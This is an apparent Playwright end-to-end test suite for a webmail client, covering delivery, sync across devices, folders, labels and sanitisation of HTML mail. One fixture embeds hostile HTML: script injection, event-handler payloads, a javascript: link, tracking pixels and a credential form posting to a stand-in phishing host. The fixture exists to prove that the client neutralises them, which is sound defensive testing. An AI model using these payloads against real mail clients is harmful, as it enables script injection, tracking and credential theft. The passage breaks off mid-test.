"""The web client in a real browser (Debian's Chromium, headless, driven by Playwright)."""

from __future__ import annotations

import asyncio
import imaplib
import re
import time
import uuid
from pathlib import Path

import pytest
import redis.asyncio as aioredis
from playwright.async_api import Browser, Route, expect

from bridge.browser_events import BrowserEvent
from bridge.fanout_publish import FanoutPublisher
from bridge.metrics import Metrics
from bridge.stack.launcher import StackInfo
from tests.browser import signed_in, wait_live
from tests.common import Account, AccountPool, host_token
from tests.mailtools import send_smtp
from tests.test_e2e_mail import message

pytestmark = pytest.mark.e2e


SEEN_AT = """(text) => {
    window.seenAt = null;
    const observer = new MutationObserver(() => {
        if (document.body.innerText.includes(text)) { window.seenAt = Date.now(); observer.disconnect(); }
    });
    observer.observe(document.body, { subtree: true, childList: true, characterData: true });
}"""


async def test_login_is_refused_with_a_clear_message(browser: Browser, stack: StackInfo, account: Account) -> None:
    page = await browser.new_page()
    await page.goto(stack.web_url)
    await page.get_by_label("Email").fill(account.email)
    await page.get_by_label("Password").fill("wrong")
    await page.get_by_role("button", name="Sign in").click()
    await expect(page.get_by_role("alert")).to_have_text("invalid email or password")


async def test_new_mail_appears_without_reload_and_reads_across_devices(
    browser: Browser, stack: StackInfo, account: Account
) -> None:
    # A mailbox that has had mail before (the first delivery to a new account also creates its
    # mailbox in Dovecot, which a user's first mail pays once).
    await asyncio.to_thread(send_smtp, stack, [message("carol@outside.test", account.email, "Welcome")])
    phone, laptop = await signed_in(browser, stack, account), await signed_in(browser, stack, account)
    await expect(phone.get_by_role("button", name="Welcome")).to_be_visible(timeout=15_000)
    subject = f"Live {uuid.uuid4().hex[:6]}"
    for page in (phone, laptop):  # each page notes (wall clock) when the subject first shows
        await page.evaluate(SEEN_AT, subject)
    started = time.time()
    await asyncio.to_thread(
        send_smtp, stack, [message("carol@outside.test", account.email, subject, "Hello from the browser test")]
    )
    for page in (phone, laptop):
        await expect(page.get_by_role("button", name=subject)).to_be_visible(timeout=15_000)
    # The bar: on screen within 1 s of the SMTP send starting, on both devices. The whole
    # path: SMTP, content filter, Postfix, LMTP, Dovecot's hook, Redis, relay, Socket.IO, React.
    shown = [await page.evaluate("() => window.seenAt") / 1000 - started for page in (phone, laptop)]
    print(f"SMTP send start to the mail on screen: {', '.join(f'{s * 1000:.0f} ms' for s in shown)}")
    assert max(shown) < 1.0, shown
    for page in (phone, laptop):
        await expect(page).to_have_title("(2) INBOX — mail-bridge")
    await phone.get_by_role("button", name=subject).click()
    await expect(phone.get_by_test_id("body-text")).to_contain_text("Hello from the browser test")
    # Read on the phone: the laptop's count drops too, pushed by Dovecot's event.
    await expect(laptop).to_have_title("(1) INBOX — mail-bridge", timeout=15_000)
    await phone.close()
    await laptop.close()


async def test_compose_sends_and_the_sent_mail_arrives(browser: Browser, stack: StackInfo, account: Account) -> None:
    page = await signed_in(browser, stack, account)
    subject = f"Note to self {uuid.uuid4().hex[:6]}"
    await page.get_by_role("button", name="Compose").click()
    await page.get_by_label("To", exact=True).fill(account.email)
    await page.get_by_label("Subject").fill(subject)
    await page.get_by_label("Message text").fill("remember the milk")
    await page.get_by_role("button", name="Send", exact=True).click()
    await expect(page.get_by_role("status").filter(has_text="Sent").first).to_be_visible(timeout=15_000)
    await expect(page.get_by_role("button", name=subject)).to_be_visible(timeout=15_000)
    # In Sent, a row names whom it went to, not the sender (always oneself there).
    await page.get_by_role("navigation", name="Mailboxes").get_by_role("button", name="Sent").click()
    sent = page.get_by_role("list", name="Messages").locator("li.item").filter(has_text=subject)
    await expect(sent.locator(".from")).to_have_text(f"To: {account.email}", timeout=15_000)
    await page.close()


async def test_search_tabs_keyboard_and_delete(browser: Browser, stack: StackInfo, account: Account) -> None:
    tag = uuid.uuid4().hex[:6]
    social = message("notifications@linkedin.com", account.email, f"Social {tag}", "someone viewed your profile")
    await asyncio.to_thread(
        send_smtp,
        stack,
        [
            message("carol@outside.test", account.email, f"Alpha {tag}"),
            message("dan@outside.test", account.email, f"Beta {tag}"),
            social,
        ],
    )
    page = await signed_in(browser, stack, account)
    for subject in (f"Alpha {tag}", f"Beta {tag}", f"Social {tag}"):
        await expect(page.get_by_role("button", name=subject)).to_be_visible(timeout=15_000)

    await page.get_by_role("tab", name="Social").click()
    # The tab lists from the index, which may trail the live list under load (seen in full runs).
    await expect(page.get_by_role("button", name=f"Social {tag}")).to_be_visible(timeout=15_000)
    await expect(page.get_by_role("button", name=f"Alpha {tag}")).to_have_count(0)
    await page.get_by_role("tab", name="All").click()

    await page.get_by_label("Search mail").fill("subject:alpha")
    await page.get_by_label("Search mail").press("Enter")
    await expect(page.get_by_role("button", name=f"Alpha {tag}")).to_be_visible(timeout=15_000)
    await expect(page.get_by_role("button", name=f"Beta {tag}")).to_have_count(0)
    await page.get_by_label("Search mail").fill("")
    await page.get_by_label("Search mail").press("Enter")
    await expect(page.get_by_role("button", name=f"Beta {tag}")).to_be_visible()

    await page.locator("body").click()
    await page.keyboard.press("j")  # the cursor on the newest message: nothing opened, nothing read
    newest = page.get_by_role("list", name="Messages").locator("li.item").first
    await expect(newest.locator(".open")).to_be_focused()
    await expect(page.get_by_role("region", name="Message")).to_have_text("Select a message")
    await expect(newest).to_have_class("item unread")
    await page.keyboard.press("Enter")  # opens it
    await expect(page.get_by_role("region", name="Message").get_by_role("heading")).to_be_visible()
    subject = await page.get_by_role("region", name="Message").get_by_role("heading").inner_text()
    await page.get_by_role("button", name="Delete", exact=True).click()
    await expect(page.get_by_role("button", name=subject)).to_have_count(0, timeout=15_000)
    await page.close()


async def test_archive_and_delete_can_be_undone(browser: Browser, stack: StackInfo, account: Account) -> None:
    tag = uuid.uuid4().hex[:6]
    await asyncio.to_thread(
        send_smtp,
        stack,
        [
            message("carol@outside.test", account.email, f"Keep {tag}"),
            message("dan@outside.test", account.email, f"Bin {tag}"),
        ],
    )
    page = await signed_in(browser, stack, account)
    listing = page.get_by_role("list", name="Messages")
    for subject in (f"Keep {tag}", f"Bin {tag}"):
        await expect(listing.get_by_role("button", name=subject)).to_be_visible(timeout=15_000)

    await listing.get_by_role("button", name=f"Keep {tag}").click()
    await page.get_by_role("region", name="Message").get_by_role("button", name="Archive", exact=True).click()
    await expect(listing.get_by_role("button", name=f"Keep {tag}")).to_have_count(0, timeout=15_000)
    await page.get_by_role("status").filter(has_text="Archived").get_by_role("button", name="Undo").click()
    await expect(listing.get_by_role("button", name=f"Keep {tag}")).to_be_visible(timeout=15_000)

    # From the keyboard: # moves it to Trash, z puts it back.
    await listing.get_by_role("button", name=f"Bin {tag}").click()
    await page.locator("body").press("#")
    await expect(listing.get_by_role("button", name=f"Bin {tag}")).to_have_count(0, timeout=15_000)
    await expect(page.get_by_role("status").filter(has_text="Moved to Trash")).to_be_visible()
    await page.locator("body").press("z")
    await expect(listing.get_by_role("button", name=f"Bin {tag}")).to_be_visible(timeout=15_000)
    await page.get_by_role("navigation", name="Mailboxes").get_by_role("button", name="Trash").click()
    await expect(page.get_by_role("list", name="Messages").get_by_role("button", name=f"Bin {tag}")).to_have_count(0)
    await page.close()


async def test_the_standard_folders_are_there_in_order_and_report_spam_moves_to_junk(
    browser: Browser, stack: StackInfo, account: Account
) -> None:
    subject = f"Cheap pills {uuid.uuid4().hex[:6]}"
    await asyncio.to_thread(send_smtp, stack, [message("spammer@outside.test", account.email, subject)])
    page = await signed_in(browser, stack, account)
    nav = page.get_by_role("navigation", name="Mailboxes")
    # A fresh account: every standard folder listed at once, in the usual order.
    await expect(nav.get_by_role("button")).to_have_text(
        [re.compile(r"^INBOX"), "Drafts", "Sent", "Archive", "Junk", "Trash", "New folder"], timeout=15_000
    )
    listing = page.get_by_role("list", name="Messages")
    await listing.get_by_role("button", name=subject).click()
    await page.get_by_role("region", name="Message").get_by_role("button", name="Report spam").click()
    await expect(listing.get_by_role("button", name=subject)).to_have_count(0, timeout=15_000)
    await nav.get_by_role("button", name="Junk").click()
    await expect(listing.get_by_role("button", name=subject)).to_be_visible(timeout=15_000)
    await listing.get_by_role("button", name=subject).click()
    await page.get_by_role("region", name="Message").get_by_role("button", name="Not spam").click()
    await expect(listing.get_by_role("button", name=subject)).to_have_count(0, timeout=15_000)
    await nav.get_by_role("button", name=re.compile(r"^INBOX")).click()
    await expect(listing.get_by_role("button", name=subject)).to_be_visible(timeout=15_000)
    await page.close()


async def test_reply_all_answers_everyone_but_oneself(
    browser: Browser, stack: StackInfo, account: Account, other_account: Account, account_pool: AccountPool
) -> None:
    subject = f"Team {uuid.uuid4().hex[:6]}"
    copied = account_pool.take()
    team = message("carol@outside.test", account.email, subject)
    team.replace_header("To", f"{account.email}, {other_account.email}")
    team["Cc"] = copied.email
    await asyncio.to_thread(send_smtp, stack, [team])
    page = await signed_in(browser, stack, account)
    await page.get_by_role("list", name="Messages").get_by_role("button", name=subject).click()
    await page.get_by_role("region", name="Message").get_by_role("button", name="Reply all").click()
    composer = page.get_by_role("form", name="Compose")
    await expect(composer.get_by_label("To", exact=True)).to_have_value(re.compile("carol@outside.test"))
    cc = await composer.get_by_label("Cc", exact=True).input_value()
    assert sorted(a.strip() for a in cc.split(",")) == sorted([other_account.email, copied.email])
    await expect(composer.get_by_label("Subject")).to_have_value(f"Re: {subject}")
    await page.close()


async def test_mark_all_read_reads_the_whole_folder_on_every_device(
    browser: Browser, stack: StackInfo, account: Account
) -> None:
    tag = uuid.uuid4().hex[:6]
    await asyncio.to_thread(
        send_smtp, stack, [message("carol@outside.test", account.email, f"Unread {n} {tag}") for n in range(3)]
    )
    laptop, phone = await signed_in(browser, stack, account), await signed_in(browser, stack, account)
    inbox = phone.get_by_role("navigation", name="Mailboxes").get_by_role("button", name=re.compile("^INBOX"))
    await expect(inbox).to_have_text("INBOX (3)", timeout=15_000)
    await laptop.get_by_role("button", name="Mark all read").click()
    await expect(inbox).to_have_text("INBOX", timeout=15_000)
    await expect(phone.get_by_role("list", name="Messages").locator("li.item.unread")).to_have_count(0, timeout=15_000)
    await expect(laptop.get_by_role("button", name="Mark all read")).to_have_count(0)
    await laptop.close()
    await phone.close()


async def test_question_mark_lists_the_shortcuts_and_back_returns_to_the_list(
    browser: Browser, stack: StackInfo, account: Account
) -> None:
    subject = f"Back {uuid.uuid4().hex[:6]}"
    await asyncio.to_thread(send_smtp, stack, [message("carol@outside.test", account.email, subject)])
    context = await browser.new_context(viewport={"width": 390, "height": 844}, has_touch=True)  # a phone
    page = await signed_in(context, stack, account)
    listing = page.get_by_role("list", name="Messages")
    await expect(listing.get_by_role("button", name=subject)).to_be_visible(timeout=15_000)
    # One header row on a phone, and every control there and in the folder bar a 44 px target.
    boxes = [await b.bounding_box() for b in await page.locator("header button, nav button").all()]
    assert boxes and all(box is not None and box["height"] >= 44 for box in boxes), boxes
    header_tops = {
        round(box["y"]) for box in [await b.bounding_box() for b in await page.locator("header button").all()] if box
    }
    assert len(header_tops) == 1, header_tops
    # ... and all of it on screen: the header's buttons show their icons alone, keeping their names.
    fits = "(() => { const h = document.querySelector('header'); return h.scrollWidth <= h.clientWidth; })()"
    assert await page.evaluate(fits)
    for name in ("Compose", "Sound", "Notifications", "Sign out"):
        await expect(page.locator("header").get_by_role("button", name=name, exact=True)).to_be_in_viewport()

    await listing.get_by_role("button", name=subject).focus()
    await page.keyboard.press("?")
    dialog = page.get_by_role("dialog", name="Keyboard shortcuts")
    await expect(dialog).to_contain_text("Undo the last archive")
    await expect(dialog.get_by_role("button", name="Close")).to_be_focused()  # focus moved into it
    await page.keyboard.press("Escape")
    await expect(dialog).to_have_count(0)
    await expect(listing.get_by_role("button", name=subject)).to_be_focused()  # and back where it was

    # The system Back gesture walks back from the message to the list, not out of the app.
    await listing.get_by_role("button", name=subject).click()
    await expect(page.get_by_role("heading", name=subject)).to_be_visible(timeout=15_000)
    await page.go_back()
    await expect(page.get_by_role("heading", name=subject)).to_have_count(0)
    await expect(listing.get_by_role("button", name=subject)).to_be_visible()
    assert page.url.startswith(stack.web_url)

    # Message -> list -> the folder before: archived, it is opened from Archive, and Back walks out.
    nav = page.get_by_role("navigation", name="Mailboxes")
    await listing.get_by_role("button", name=subject).click()
    await expect(page.get_by_role("heading", name=subject)).to_be_visible(timeout=15_000)
    await page.keyboard.press("e")  # archived from the message, which closes
    await expect(page.get_by_role("heading", name=subject)).to_have_count(0, timeout=15_000)
    await expect(listing.get_by_role("button", name=subject)).to_have_count(0, timeout=15_000)
    await nav.get_by_role("button", name=re.compile("^Archive")).click()
    await listing.get_by_role("button", name=subject).click()
    await expect(page.get_by_role("heading", name=subject)).to_be_visible(timeout=15_000)
    await page.go_back()  # the message -> Archive's list
    await expect(listing.get_by_role("button", name=subject)).to_be_visible()
    await expect(nav.get_by_role("button", name=re.compile("^Archive"))).to_have_attribute("aria-current", "page")
    await page.go_back()  # Archive -> the Inbox it was opened from
    await expect(nav.get_by_role("button", name=re.compile("^INBOX"))).to_have_attribute("aria-current", "page")
    await expect(listing.get_by_role("button", name=subject)).to_have_count(0)
    assert page.url.startswith(stack.web_url)
    await context.close()


async def test_a_folder_is_made_filled_renamed_and_deleted(
    browser: Browser, stack: StackInfo, account: Account
) -> None:
    subject = f"File me {uuid.uuid4().hex[:6]}"
    await asyncio.to_thread(send_smtp, stack, [message("carol@outside.test", account.email, subject)])
    page = await signed_in(browser, stack, account)
    nav = page.get_by_role("navigation", name="Mailboxes")
    listing = page.get_by_role("list", name="Messages")
    await expect(listing.get_by_role("button", name=subject)).to_be_visible(timeout=15_000)

    await nav.get_by_role("button", name="New folder").click()
    await page.get_by_label("New folder name").fill("Projects")
    await page.get_by_label("New folder name").press("Enter")
    await expect(nav.get_by_role("button", name="Projects")).to_have_attribute("aria-current", "page", timeout=15_000)

    await nav.get_by_role("button", name=re.compile("^INBOX")).click()
    await listing.get_by_role("button", name=subject).click()
    await page.get_by_role("region", name="Message").get_by_label("Move to folder").select_option("Projects")
    await expect(page.get_by_role("status").filter(has_text="Moved to Projects")).to_be_visible(timeout=15_000)
    await nav.get_by_role("button", name="Projects").click()
    await expect(listing.get_by_role("button", name=subject)).to_be_visible(timeout=15_000)

    await page.get_by_role("button", name="Rename folder").click()
    await page.get_by_label("New name for Projects").fill("Clients")
    await page.get_by_label("New name for Projects").press("Enter")
    await expect(nav.get_by_role("button", name="Clients")).to_have_attribute("aria-current", "page", timeout=15_000)
    await expect(listing.get_by_role("button", name=subject)).to_be_visible(timeout=15_000)

    page.once("dialog", lambda dialog: asyncio.ensure_future(dialog.accept()))
    await page.get_by_role("button", name="Delete folder").click()
    await expect(nav.get_by_role("button", name="Clients")).to_have_count(0, timeout=15_000)
    await expect(nav.get_by_role("button", name=re.compile("^INBOX"))).to_have_attribute("aria-current", "page")
    await page.close()


async def test_a_new_tab_is_signed_in_by_the_open_one_and_signing_out_signs_out_both(
    browser: Browser, stack: StackInfo, account: Account
) -> None:
    context = await browser.new_context()
    first = await signed_in(context, stack, account)
    second = await context.new_page()  # another tab of the same browser
    await second.goto(stack.web_url)
    await wait_live(second)  # no sign-in form: the open tab shared its session
    await expect(second.get_by_text(account.email)).to_be_visible()
    await second.get_by_role("button", name="Sign out").click()
    for tab in (first, second):
        await expect(tab.get_by_role("button", name="Sign in")).to_be_visible(timeout=15_000)
    third = await context.new_page()  # nobody signed in any more: the form, as for a first visit
    await third.goto(stack.web_url)
    await expect(third.get_by_role("button", name="Sign in")).to_be_visible()
    await third.wait_for_timeout(500)
    await expect(third.get_by_role("button", name="Sign in")).to_be_visible()
    await context.close()


async def test_several_messages_are_picked_and_archived_together_and_put_back(
    browser: Browser, stack: StackInfo, account: Account
) -> None:
    tag = uuid.uuid4().hex[:6]
    subjects = [f"Batch {n} {tag}" for n in range(3)]
    await asyncio.to_thread(send_smtp, stack, [message("carol@outside.test", account.email, s) for s in subjects])
    page = await signed_in(browser, stack, account)
    listing = page.get_by_role("list", name="Messages")
    for subject in subjects:
        await expect(listing.get_by_role("button", name=subject)).to_be_visible(timeout=15_000)
    await listing.get_by_role("checkbox", name=f"Select {subjects[0]}").check()
    await listing.get_by_role("button", name=subjects[1]).focus()
    await page.keyboard.press("x")  # the keyboard picks the row it is on
    bar = page.get_by_role("toolbar", name="Selected messages")
    await expect(bar).to_contain_text("2 selected")
    await bar.get_by_role("button", name="Mark read").click()
    await expect(listing.locator("li.item.unread")).to_have_count(1, timeout=15_000)  # only the third
    for subject in subjects[:2]:
        await listing.get_by_role("checkbox", name=f"Select {subject}").check()
    await page.get_by_role("toolbar", name="Selected messages").get_by_role("button", name="Archive").click()
    await expect(page.get_by_role("status").filter(has_text="2 messages archived")).to_be_visible(timeout=15_000)
    for subject in subjects[:2]:
        await expect(listing.get_by_role("button", name=subject)).to_have_count(0, timeout=15_000)
    await page.get_by_role("status").filter(has_text="2 messages archived").get_by_role("button", name="Undo").click()
    for subject in subjects:
        await expect(listing.get_by_role("button", name=subject)).to_be_visible(timeout=15_000)
    await page.close()


async def test_reply_and_attachment_download(
    browser: Browser, stack: StackInfo, account: Account, other_account: Account
) -> None:
    from tests.mailtools import wait_for_messages  # noqa: PLC0415

    tag = uuid.uuid4().hex[:6]
    original = message(other_account.email, account.email, f"Question {tag}", "Can you send the numbers?")
    original.add_attachment(b"1,2,3\n", maintype="text", subtype="csv", filename="numbers.csv")
    await asyncio.to_thread(send_smtp, stack, [original])
    page = await signed_in(browser, stack, account)
    await page.get_by_role("button", name=f"Question {tag}").click()

    async with page.expect_download() as download_info:
        await page.get_by_role("button", name="numbers.csv").click()
    download = await download_info.value
    assert download.suggested_filename == "numbers.csv"
    assert Path(await download.path()).read_bytes() == b"1,2,3\n"

    await page.get_by_role("button", name="Reply", exact=True).click()
    await expect(page.get_by_label("To", exact=True)).to_have_value(f"Sender Person <{other_account.email}>")
    await expect(page.get_by_label("Subject")).to_have_value(f"Re: Question {tag}")
    await expect(page.get_by_label("Message text")).to_contain_text("> Can you send the numbers?")
    await page.get_by_role("button", name="Send", exact=True).click()
    await expect(page.get_by_role("status").filter(has_text="Sent").first).to_be_visible(timeout=15_000)
    ids = await asyncio.to_thread(wait_for_messages, stack, other_account.email, other_account.password, 1)
    assert len(ids) == 1
    await page.close()


async def test_replying_shows_on_the_users_other_device(browser: Browser, stack: StackInfo, account: Account) -> None:
    subject = f"Thread {uuid.uuid4().hex[:6]}"
    await asyncio.to_thread(send_smtp, stack, [message("carol@outside.test", account.email, subject)])
    laptop, phone = await signed_in(browser, stack, account), await signed_in(browser, stack, account)
    for page in (laptop, phone):
        await page.get_by_role("button", name=subject).click()
    await laptop.get_by_role("button", name="Reply", exact=True).click()
    await laptop.get_by_label("Message text").press_sequentially("Sure, ")
    await expect(phone.get_by_role("status").filter(has_text="is replying")).to_have_text(
        f"{account.email} is replying…", timeout=10_000
    )
    await laptop.close()
    await phone.close()


async def test_a_label_added_or_removed_on_one_device_shows_on_the_other(
    browser: Browser, stack: StackInfo, account: Account
) -> None:
    subject = f"Label me {uuid.uuid4().hex[:6]}"
    await asyncio.to_thread(send_smtp, stack, [message("carol@outside.test", account.email, subject)])
    laptop, phone = await signed_in(browser, stack, account), await signed_in(browser, stack, account)
    await expect(phone.get_by_role("button", name=subject)).to_be_visible(timeout=15_000)
    await laptop.get_by_role("button", name=subject).click()
    await laptop.get_by_label("Add label").fill("work")
    await laptop.get_by_label("Add label").press("Enter")
    # An IMAP keyword set through the bridge: Dovecot's event brings it to every session.
    await expect(phone.get_by_role("button", name=subject).get_by_label("Labels")).to_have_text("work", timeout=15_000)
    # And taken off again, from the message's own label.
    await laptop.get_by_role("region", name="Message").get_by_role("button", name="Remove label work").click()
    await expect(phone.get_by_role("button", name=subject).get_by_label("Labels")).to_have_count(0, timeout=15_000)
    await laptop.close()
    await phone.close()


HOSTILE_HTML = """<html><head><style>body { background: url(https://tracker.example/css.png) }</style></head><body>
<p id="greeting">Quarterly update</p>
<script>parent.document.title = "pwned"; alert("script")</script>
<img src="x" onerror="parent.document.title = 'pwned'">
<img src="https://tracker.example/pixel.gif" alt="logo">
<a href="javascript:alert(1)">click me</a>
<form action="https://phish.example/steal"><input name="password"><button>Log in</button></form>
<svg onload="alert(1)"></svg><iframe src="https://evil.example/"></iframe>
</body></html>"""


async def test_hostile_html_renders_inert_and_remote_images_wait_until_asked(
    browser: Browser, stack: StackInfo, account: Account
) -> None:
    subject = f"Hostile {uuid.uuid4().hex[:6]}"
    hostile = message("mallory@outside.test", account.email, subject, "plain part")
    hostile.add_alternative(HOSTILE_HTML, subtype="html")
    await asyncio.to_thread(send_smtp, stack, [hostile])
    page = await signed_in(browser, stack, account)
    dialogs: list[str] = []
    page.on("dialog", lambda d: dialogs.append(d.message))
    await page.get_by_role("button", name=subject).click()
    frame_element = page.locator('iframe[title="Message body"]')
    # No script, no forms, no top navigation: only links may open, in a tab of their own.
    await expect(frame_element).to_have_attribute("sandbox", "allow-popups allow-popups-to-escape-sandbox")
    body = page.frame_locator('iframe[title="Message body"]').locator("body")
    await expect(body).to_contain_text("Quarterly update", timeout=15_000)
    html = await body.inner_html()
    for forbidden in ("<script", "onerror", "javascript:", "<form", "<svg", "<iframe", "tracker.example", "url("):
        assert forbidden not in html, forbidden
    await expect(page.get_by_role("note")).to_contain_text("1 remote image blocked")

    await page.get_by_role("button", name="Load remote images").click()
    pixel = page.frame_locator('iframe[title="Message body"]').locator('img[alt="logo"]')
    await expect(pixel).to_have_attribute("src", "https://tracker.example/pixel.gif", timeout=15_000)
    await expect(page.get_by_role("note")).to_have_count(0)
    assert "pwned" not in await page.title()
    assert dialogs == []
    await page.close()


async def test_a_link_in_html_mail_opens_in_a_new_tab_without_opener_or_referrer(
    browser: Browser, stack: StackInfo, account: Account
) -> None:
    subject = f"Link {uuid.uuid4().hex[:6]}"
    mail = message("carol@outside.test", account.email, subject, "plain part")
    mail.add_alternative('<p>Read <a href="https://example.invalid/report">the report</a>.</p>', subtype="html")
    await asyncio.to_thread(send_smtp, stack, [mail])
    page = await signed_in(browser, stack, account)
    await page.get_by_role("button", name=subject).click()
    link = page.frame_locator('iframe[title="Message body"]').get_by_role("link", name="the report")
    await expect(link).to_have_attribute("target", "_blank", timeout=15_000)
    await expect(link).to_have_attribute("rel", "noopener noreferrer")
    asked: list[dict[str, str]] = []

    async def report(route: Route) -> None:  # stands in for the web site (the machine is loopback only)
        asked.append(route.request.headers)
        await route.fulfill(body="<title>The report</title>", content_type="text/html")

    await page.context.route("https://example.invalid/**", report)
    async with page.context.expect_page() as opened:
        await link.click()
    tab = await opened.value
    await tab.wait_for_load_state()
    assert tab.url == "https://example.invalid/report" and await tab.title() == "The report"
    assert await tab.evaluate("() => [window.opener === null, document.referrer]") == [True, ""]
    assert [h for h in asked if "referer" in h] == []
    assert page.url.startswith(stack.web_url)  # the client stays where it was
    await tab.close()
    await page.close()


async def test_counts_that_arrive_late_do_not_replace_newer_ones(
    browser: Browser, stack: StackInfo, account: Account, redis_client: aioredis.Redis
) -> None:
    """Counts are taken by several writers and can reach a browser in the other order (a first
    login's backfill counts a mailbox before a mail is read and publishes after the read's count):
    the client shows the counts with the highest `countsVersion`, whatever came last."""
    await asyncio.to_thread(send_smtp, stack, [message("carol@outside.test", account.email, "Count me")])
    page = await signed_in(browser, stack, account)
    await expect(page).to_have_title("(1) INBOX — mail-bridge", timeout=15_000)
    version = int(await redis_client.hget(f"mail:index:version:{account.email}", "INBOX") or 0)
    assert version > 0
    publisher = FanoutPublisher(redis_client, "mail", resume_log_len=10_000, metrics=Metrics())

    async def counts(mailbox: str, unread: int, counts_version: int) -> str:
        payload = {"account": account.email, "mailbox": mailbox, "unread": unread, "total": unread}
        payload["countsVersion"] = counts_version
        return await publisher.publish(BrowserEvent("unread_count", account.email, payload))

    # Versions are at least the Redis clock in microseconds: ten minutes ahead is newer than any
    # count the bridge takes during this test (a backfill's too).
    ahead = int(time.time() * 1_000_000) + 600_000_000
    await counts("INBOX", 5, ahead)  # newer than what the page shows: taken
    await expect(page).to_have_title("(5) INBOX — mail-bridge", timeout=15_000)
    stale = await counts("INBOX", 7, version)  # older: dropped
    # The page has the stale count once it noted its id as the last it received; a count it took
    # would show within a frame, so a second is ample.
    received = "(id) => JSON.parse(sessionStorage.getItem('mail-bridge-last-event') || '{}')[%r] === id"
    await page.wait_for_function(received % account.email, arg=stale, timeout=15_000)
    await page.wait_for_timeout(1000)
    await expect(page).to_have_title("(5) INBOX — mail-bridge", timeout=1)
    await page.close()


async def test_counts_that_come_before_the_folder_list_are_not_lost_when_it_comes(
    browser: Browser, stack: StackInfo, account: Account, redis_client: aioredis.Redis
) -> None:
    """The socket can bring a mailbox's counts before the page has its folder list (the rows come
    first): when the list comes, with counts older than those, the newer counts stay."""
    await asyncio.to_thread(send_smtp, stack, [message("carol@outside.test", account.email, "Count me early")])
    release, asked = asyncio.Event(), asyncio.Event()

    async def held(route: Route) -> None:
        asked.set()
        await release.wait()
        await route.continue_()

    context = await browser.new_context(service_workers="block")  # its own fetches pass page routes by
    await context.route(re.compile(r"/api/v1/mailboxes\?"), held)
    page = await signed_in(context, stack, account)
    await expect(page.get_by_role("button", name=re.compile("Count me early"))).to_be_visible(timeout=15_000)
    await asyncio.wait_for(asked.wait(), 15)
    publisher = FanoutPublisher(redis_client, "mail", resume_log_len=10_000, metrics=Metrics())
    payload = {"account": account.email, "mailbox": "INBOX", "unread": 5, "total": 5}
    payload["countsVersion"] = int(time.time() * 1_000_000) + 600_000_000  # newer than the list's
    sent = await publisher.publish(BrowserEvent("unread_count", account.email, payload))
    received = "(id) => JSON.parse(sessionStorage.getItem('mail-bridge-last-event') || '{}')[%r] === id"
    await page.wait_for_function(received % account.email, arg=sent, timeout=15_000)
    release.set()  # the folder list comes now, with the count of 1 it took before
    inbox = page.get_by_role("navigation", name="Mailboxes").get_by_role("button", name=re.compile("^INBOX"))
    await expect(inbox).to_have_text("INBOX (5)", timeout=15_000)
    await expect(page).to_have_title("(5) INBOX — mail-bridge")
    await context.close()


async def test_mail_that_arrived_live_in_another_folder_shows_when_it_is_opened(
    browser: Browser, stack: StackInfo, account: Account, redis_client: aioredis.Redis
) -> None:
    """The list of a folder comes from the index, which may trail the live events: a mail the socket
    announced in another folder shows there as soon as that folder is opened."""
    page = await signed_in(browser, stack, account)
    publisher = FanoutPublisher(redis_client, "mail", resume_log_len=10_000, metrics=Metrics())
    subject = f"Filed live {uuid.uuid4().hex[:6]}"
    # Announced only (the index never hears of it): what a lagging index looks like to the client.
    payload = {
        "id": f"live-{uuid.uuid4().hex}",
        "account": account.email,
        "mailbox": "Archive",
        "uid": 1,
        "subject": subject,
        "fromAddress": "carol@outside.test",
        "timestamp": "2026-12-04T10:00:00Z",
        "flags": [],
        "unread": True,
    }
    await publisher.publish(BrowserEvent("new_email", account.email, payload))
    received = "(acct) => Boolean(JSON.parse(sessionStorage.getItem('mail-bridge-last-event') || '{}')[acct])"
    await page.wait_for_function(received, arg=account.email, timeout=15_000)
    await page.get_by_role("navigation", name="Mailboxes").get_by_role("button", name="Archive").click()
    await expect(page.get_by_role("list", name="Messages").get_by_role("button", name=subject)).to_be_visible()
    await page.close()


async def test_a_token_granting_two_accounts_switches_between_them(
    browser: Browser, stack: StackInfo, account: Account, other_account: Account
) -> None:
    tag = uuid.uuid4().hex[:6]
    await asyncio.to_thread(
        send_smtp,
        stack,
        [
            message("carol@outside.test", account.email, f"For the first {tag}"),
            message("carol@outside.test", other_account.email, f"For the second {tag}"),
        ],
    )
    # The host website opens the client with its own token in the fragment.
    token = host_token("web-user-7", [account.email, other_account.email])
    page = await browser.new_page()
    await page.goto(f"{stack.web_url}/#token={token}")
    await wait_live(page)
    assert "token" not in page.url
    switcher = page.get_by_label("Account")
    await expect(switcher.locator("option")).to_have_text(
        [f"{account.email} (1)", f"{other_account.email} (1)"], timeout=15_000
    )
    await expect(page.get_by_role("button", name=f"For the first {tag}")).to_be_visible(timeout=15_000)
    await expect(page.get_by_role("button", name=f"For the second {tag}")).to_have_count(0)
    await switcher.select_option(other_account.email)
    await expect(page.get_by_role("button", name=f"For the second {tag}")).to_be_visible(timeout=15_000)
    await expect(page.get_by_role("button", name=f"For the first {tag}")).to_have_count(0)
    # New mail to the account not shown still counts in the switcher, live.
    await asyncio.to_thread(send_smtp, stack, [message("dan@outside.test", account.email, f"Later {tag}")])
    await expect(switcher.locator("option").first).to_have_text(f"{account.email} (2)", timeout=15_000)
    await expect(page.get_by_role("button", name=f"Later {tag}")).to_have_count(0)
    await page.close()


def _imap_changes(stack: StackInfo, account: Account, star: str, read: str, move: str) -> None:
    """Another IMAP client (a phone's mail app, say) stars one mail, reads another, moves a third."""
    with imaplib.IMAP4(stack.imap["host"], stack.imap["port"], timeout=10) as imap:
        imap.login(account.email, account.password)
        imap.select("INBOX")
        for subject, flag in ((star, "(\\Flagged)"), (read, "(\\Seen)")):
            _status, found = imap.uid("SEARCH", "SUBJECT", f'"{subject}"')
            imap.uid("STORE", found[0].decode(), "+FLAGS", flag)
        _status, found = imap.uid("SEARCH", "SUBJECT", f'"{move}"')
        imap.create("Later")
        imap.uid("MOVE", found[0].decode(), "Later")


async def test_changes_by_another_imap_client_and_by_the_browser_show_everywhere_at_once(
    browser: Browser, stack: StackInfo, account: Account
) -> None:
    tag = uuid.uuid4().hex[:6]
    subjects = [f"Star {tag}", f"Read {tag}", f"Move {tag}"]
    await asyncio.to_thread(send_smtp, stack, [message("carol@outside.test", account.email, s) for s in subjects])
    page = await signed_in(browser, stack, account)
    messages = page.get_by_role("list", name="Messages")
    for subject in subjects:
        await expect(messages.get_by_role("button", name=subject)).to_be_visible(timeout=15_000)
    await expect(page).to_have_title("(3) INBOX — mail-bridge")
    await page.evaluate("() => { window.notReloaded = true; }")

    await asyncio.to_thread(_imap_changes, stack, account, *subjects)
